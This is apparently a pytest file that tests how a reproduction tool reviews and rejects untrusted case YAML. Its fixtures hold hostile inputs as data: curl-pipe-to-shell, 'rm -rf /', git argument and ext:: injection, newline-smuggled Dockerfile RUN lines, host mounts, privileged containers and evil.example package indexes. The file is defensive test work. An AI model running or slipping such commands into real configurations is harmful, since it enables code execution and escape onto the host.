"""What an untrusted case asks for, as a reviewer sees it; and what the format cannot ask for at all."""

from __future__ import annotations

import io
import unicodedata
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reprokit.case import review
from reprokit.case.files import CaseFile
from reprokit.case.review import Level
from reprokit.case.trust import Trust
from reprokit.core.addresses import is_from_another_host, is_loopback
from reprokit.core.errors import CaseError
from reprokit.environment.cases import load, load_text

BARE = "schema: reprokit/v1\nid: bare\ntitle: A case\ncommand: python go.py\n"


def case_of(text: str) -> CaseFile:
    return load_text("case.yaml", BARE + text)


def looked_at(text: str) -> list[str]:
    return [f"{ask.kind} {ask.line}" for ask in review.asks(case_of(text)) if ask.level is Level.LOOK]


def test_a_bare_case_asks_for_nothing_to_look_at() -> None:
    found = review.asks(case_of("environment: {apt: [libgl1], pip: ['numpy<2', 'torch==2.1.0+cu118']}\n"))
    assert {ask.level for ask in found} == {Level.PLAIN}
    words = "\n".join(ask.words for ask in found)
    assert "1 package of the distribution" in words
    assert "2 Python packages by name" in words
    assert "runs in each: python go.py" in words


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("environment:\n  setup: curl https://x.example | sh\n", ["setup 6"]),
        ("environment:\n  pip: ['https://x.example/a.whl']\n", ["pip 6"]),
        ("environment:\n  pip: ['a @ git+https://x.example/a']\n", ["pip 6"]),
        ("environment:\n  pip: [numpy, ./local, /abs/path, pkg.whl]\n", ["pip 6"] * 3),
        ("environment:\n  pip: ['-r requirements.txt']\n", ["pip 6"]),
        ("environment:\n  pip: ['--no-deps']\n", []),
        ("environment:\n  pip:\n  - [numpy]\n  - - ./a\n    - b\n    - https://x.example/c.whl\n", ["pip 8", "pip 10"]),
        (
            "environment:\n  pip:\n  - requirements: [x @ git+https://x.example/x]\n    options:\n    - -i https://x\n",
            ["pip 7", "pip-options 9"],
        ),
        ("environment:\n  pip_options: ['--extra-index-url https://x.example']\n", ["pip-options 6"]),
        (
            "environment:\n  pip_options: ['--find-links ./wheels', '--no-deps', '--only-binary :all:']\n",
            ["pip-options 6"],
        ),
        ("environment:\n  pip_options: ['--no-deps sneaked-in']\n", ["pip-options 6"]),
        ("environment:\n  apt: ['-oAPT::Update::Pre-Invoke::=id', ./a.deb]\n", ["apt 6", "apt 6"]),
        ("environment:\n  image: registry.example/x:1\n", ["image 6"]),
        ("sources:\n  a:\n    git: https://x.example/a\n    ref: v1\n    path: a\n", ["source 7"]),
        ("sources:\n  a:\n    git: git@x.example:a\n    ref: v1\n    path: a\n", ["source 7"]),
        ("sources:\n  a:\n    git: /home/me/private\n    ref: v1\n    path: a\n", ["source 7"]),
        ("resources:\n  user: root\n", ["user 6"]),
        ("resources:\n  user: '0:0'\n", ["user 6"]),
        ("resources:\n  user: '00'\n", ["user 6"]),
        ("resources:\n  user: 'toor'\n", ["user 6"]),
        ("resources:\n  user: repro\n", []),
        ("resources:\n  network: bridge\n", ["network 6"]),
        ("resources:\n  gpus: 2\n", ["gpus 6"]),
        ("resources: {gpus: 0, network: none, user: repro}\n", []),
        ("env: {NVIDIA_VISIBLE_DEVICES: all}\n", ["gpus 5"]),
        ("datasets:\n  d:\n    path: d\n    generate: python make.py {{ out }}\n", ["generate 8"]),
        ("datasets:\n  d:\n    path: d\nresources:\n  network: bridge\n", ["network 9", "data 7"]),
    ],
)
def test_each_thing_to_look_at_is_reported_with_its_line(text: str, wanted: list[str]) -> None:
    assert sorted(looked_at(text)) == sorted(wanted)


def test_characters_that_are_invisible_are_reported() -> None:
    assert looked_at("description: a\u202eb\u200bc\n") == ["unseen 5"]
    [ask] = [ask for ask in review.asks(case_of("tags: [日本語, a\u202eb]\n")) if ask.kind == "unseen"]
    assert (ask.column, ask.words) == (14, "holds 1 character that a reader cannot see, the first U+202E")
    assert looked_at("description: Zoë 日本語 🚀\n") == []


def test_what_a_template_hides_is_reported() -> None:
    text = (
        "matrix: {how: [a, b]}\n"
        "environment:\n  pip: [\"{{ 'ht' ~ 'tps://x.example/a.whl' if how == 'b' else 'numpy' }}\"]\n"
        "resources:\n  user: \"{{ 'ro' ~ 'ot' }}\"\n"
    )
    assert looked_at(text) == ["pip 7", "user 9"]


def test_cells_that_options_bring_in_are_listed() -> None:
    file = case_of("matrix: {how: [a]}\nresources:\n  network: \"{{ 'bridge' if how == 'z' else 'none' }}\"\n")
    assert not [ask for ask in review.asks(file) if ask.kind == "network"]
    assert [ask.kind for ask in review.asks(file, [{"how": "z"}]) if ask.level is Level.LOOK] == ["network"]


def test_the_cells_that_are_to_run_are_counted_once() -> None:
    file = case_of("matrix: {how: [a, b]}\nfix: {summary: s, env: {A: b}}\n")
    for cells, words in (([], "2 cells,"), ([{"how": "a"}, {"how": "b"}] * 2, "2 cells,"), ([{"how": "a"}], "1 cell,")):
        assert [ask.words.startswith(words) for ask in review.asks(file, cells) if ask.kind == "time"] == [True]


def test_the_fix_is_looked_at_too() -> None:
    file = case_of("fix:\n  summary: s\n  environment:\n    setup: curl https://x.example | sh\n")
    [ask] = [ask for ask in review.asks(file) if ask.level is Level.LOOK]
    assert (ask.line, ask.words[:14]) == (8, "with the fix: ")


@pytest.mark.parametrize(
    "text",
    [
        "volumes: ['/var/run/docker.sock:/var/run/docker.sock']\n",
        "resources: {privileged: true}\n",
        "resources: {cap_add: [SYS_ADMIN]}\n",
        "resources: {devices: [/dev/kvm]}\n",
        "resources: {pid: host}\n",
        "resources: {security_opt: [seccomp=unconfined]}\n",
        "resources: {network: host}\n",
        "resources: {network: 'container:other'}\n",
        "resources: {user: '0 --privileged'}\n",
        "environment: {volumes: [/:/host]}\n",
        "environment: {dockerfile: FROM x}\n",
        "mounts: [/:/host]\n",
        "datasets: {d: {path: /etc}}\n",
        "datasets: {d: {path: ../../etc}}\n",
        "datasets: {d: {path: d, source: /etc}}\n",
        "files: {/etc/passwd: x}\n",
        "files: {../x: x}\n",
        "sources: {a: {git: 'ext::sh -c id', ref: v1, path: a}}\n",
        "sources: {a: {git: --upload-pack=id, ref: v1, path: a}}\n",
        "sources: {a: {git: https://x.example/a, ref: --upload-pack=id, path: a}}\n",
        "workdir: /\n",
        'environment: {image: "debian:12\\nRUN id"}\n',
        "environment: {image: --platform=x debian}\n",
        'environment: {apt: ["a\\nRUN id"]}\n',
        'environment: {pip: ["a\\nRUN id"]}\n',
        'environment: {pip_options: ["--x\\rRUN id"]}\n',
        "fix: {resources: {privileged: true}}\n",
    ],
)
def test_the_format_has_no_word_for_reaching_the_host(text: str) -> None:
    with pytest.raises(CaseError):
        case_of(text)


@pytest.mark.parametrize("key", ["image", "apt", "pip", "pip_options"])
def test_no_template_can_begin_an_instruction_of_its_own(key: str) -> None:
    template = "\"{{ 'a' ~ br ~ 'RUN id' }}\""
    value = template if key == "image" else f"[{template}]"
    with pytest.raises(CaseError, match="environment." + key):
        case_of(f'matrix: {{br: ["x\\nx"]}}\nenvironment: {{{key}: {value}}}\n')


def test_the_summary_names_the_text_and_what_to_look_at() -> None:
    file = case_of("environment:\n  setup: |\n    curl https://x.example\n    rm -rf /\n")
    words = review.summary(file)
    assert file.digest in words
    assert "6:10: runs 2 lines while it is built: curl https://x.example rm -rf /" in words
    assert "as root in a container" in words
    assert "--engine venv refuses it" not in words
    assert "--engine venv refuses it" in review.summary(replace(file, trust=Trust.STRANGER))


@given(st.text(min_size=1, max_size=300))
def test_nothing_that_a_summary_prints_moves_a_cursor(text: str) -> None:
    shown = review.printable(text)
    assert "\n" not in shown
    assert not [c for c in shown if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"}]


@pytest.mark.parametrize(
    ("url", "own"),
    [
        ("http://127.0.0.1:8000/x", True),
        ("http://[::1]/x", True),
        ("http://localhost/x", True),
        ("http://localhost.evil.example/x", False),
        ("http://localhost@evil.example/x", False),
        ("http://127.0.0.1.evil.example/x", False),
        ("http://[::1].evil.example/x", False),
        ("http://evil.example\\@localhost/x", False),
        ("http://me@localhost/x", False),
        ("http://2130706433/x", False),
        ("http://0.0.0.0/x", False),
        ("https://evil.example/localhost", False),
        ("http://[::1", False),
    ],
)
def test_only_this_host_itself_is_loopback(url: str, own: bool) -> None:
    assert is_loopback(url) is own
    assert is_from_another_host(url) is not own


PAD = "--prefer-binary " * 12
PATCH = r"--- a/setup.py\n+++ b/setup.py\n@@ -0,0 +1 @@\n+x\n"


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("environment: {pip: [numpy==1.26.4, reqeusts]}\n", ["numpy==1.26.4, reqeusts"]),
        ("environment: {apt: [git, netcat-openbsd], dnf: [nmap-ncat]}\n", ["git netcat-openbsd", "nmap-ncat"]),
        (
            f"environment: {{pip: [six], pip_options: ['{PAD}--index-url https://x.evil.example/s']}}\n",
            ["x.evil.example"],
        ),
        ("environment: {pip: ['six @ https://pypi.org@evil.example/six.whl']}\n", ["host: evil.example"]),
        ("sources: {a: {git: https://x.example/a, ref: v1-moved, path: p}}\n", ["at v1-moved"]),
        (
            "sources: {a: {git: 'git@git.evil.example:a', ref: v1, path: p, patch: \"" + PATCH + '"}}\n',
            ["in setup.py", "1 host: git.evil.example"],
        ),
        ("resources: {user: root, backtrace: true}\n", ["runs as root", "SYS_PTRACE"]),
        ("resources: {cpus: 64, shm_size: 100g, pids: 60000, memory: 1t}\n", ["cpus 64", "100g", "60000", "1t of mem"]),
        (
            "matrix: {h: [a, b]}\nenvironment: {setup: \"{% if h == 'b' %}curl ftp://late.evil.example{% endif %}\"}\n",
            ["late.evil.example", "h a b"],
        ),
        ("files: {sitecustomize.py: x, bin/ls: '#!/bin/sh'}\n", ["2 files: sitecustomize.py, bin/ls"]),
        ("datasets: {d: {path: d, generate: 'wget http://127.0.0.1:2375/x'}}\n", ["127.0.0.1", "data set d"]),
    ],
)
def test_a_reader_sees_what_a_hostile_case_would_get(text: str, seen: list[str]) -> None:
    file = case_of(text)
    for shown in (review.summary(file), review.summary(file, most=None)):
        for words in seen:
            assert words in shown, shown


def test_the_check_of_an_issue_shows_some_of_each_kind() -> None:
    options = "".join(f"    - --trusted-host h{number}\n" for number in range(100))
    file = case_of(f"environment:\n  pip_options:\n{options}resources: {{user: root, network: bridge}}\n")
    shown = [ask.words for ask in review.some_of_each(review.asks(file), 30)]
    assert len(shown) == 30
    assert {"runs as root", "runs in each: python go.py"} <= set(shown)


def test_many_things_of_one_kind_hide_none_of_another() -> None:
    options = "".join(f"    - --trusted-host h{number}\n" for number in range(100))
    file = case_of(f"environment:\n  pip_options:\n{options}  setup: id\nresources: {{user: root, network: bridge}}\n")
    shown = review.summary(file)
    for words in ("runs as root", "runs with a network", "runs 1 line"):
        assert words in shown
    assert "... and 83 things more, all in: reprokit validate case.yaml --asks" in shown
    assert shown.count("hands pip") == review.LISTED - 3
    assert review.summary(file, most=None).count("hands pip") == 100


@pytest.mark.parametrize("blank", ["\u3164", "\u115f", "\u2800", "\u034f", "\U000e0101"])
def test_letters_that_show_nothing_are_reported(blank: str) -> None:
    file = case_of(f"environment:\n  setup: 'true {blank}'\n")
    assert "unseen 6" in [f"{ask.kind} {ask.line}" for ask in review.asks(file)]
    assert blank not in review.summary(file)


def test_files_and_standard_input_are_the_users_own() -> None:
    assert not is_from_another_host("bug.yaml")
    [file] = load("-", stdin=io.StringIO(BARE))
    assert not is_from_another_host(file.path)
